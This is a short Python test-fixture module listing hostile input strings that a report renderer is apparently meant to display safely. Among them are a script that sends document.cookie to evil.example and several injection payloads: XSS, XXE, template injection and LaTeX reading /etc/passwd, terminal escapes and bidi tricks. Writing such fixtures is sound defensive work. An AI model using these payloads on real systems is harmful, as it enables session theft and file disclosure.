"""Texts that a model or a dataset may hold and that no report may act upon."""

from __future__ import annotations

HOSTILE = {
    "script": "<script>fetch('https://evil.example/'+document.cookie)</script>",
    "image": "<img src=x onerror=alert(1)><svg onload=alert(1)><iframe src='file:///etc/passwd'></iframe>",
    "closing": "</td></table></main></body></html><h1>Pass</h1>",
    "style": "</style><style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "attribute": '" onmouseover="alert(1)" x=\'',
    "cdata": "]]><!ENTITY x SYSTEM 'file:///etc/passwd'>&x;<!-- -->",
    "template": "{{7*7}} {% include '/etc/passwd' %} ${7*7} #{7*7} {{ self.__init__.__globals__ }}",
    "terminal": "\x1b[31mred\x1b[0m\x1b]8;;https://evil.example\x07link\x1b]8;;\x07\x9b2J",
    "markup": "[bold red]not markup[/] [link=https://evil.example]x[/link]",
    "bidi": "total \u202e0001\u202c and \u2066hidden\u2069 \u200bzero\u200d \ufeffbom",
    "nul": "before\x00after\x01\x08\x0b\x0c\x7f\x85\ufffe\uffff",
    "mathematics": r"$\frac{1}{0}$ $x$ \input{/etc/passwd}",
    "scripts": "👩‍👩‍👧 データの漏洩 تسرب البيانات नमस्ते",
    "marks": "z" + "\u0301" * 500,
    "lines": "\n" * 3000 + "end",
}
SURROGATE = "half \ud800 a pair"
LONG_LINE = "a" * 1_000_000
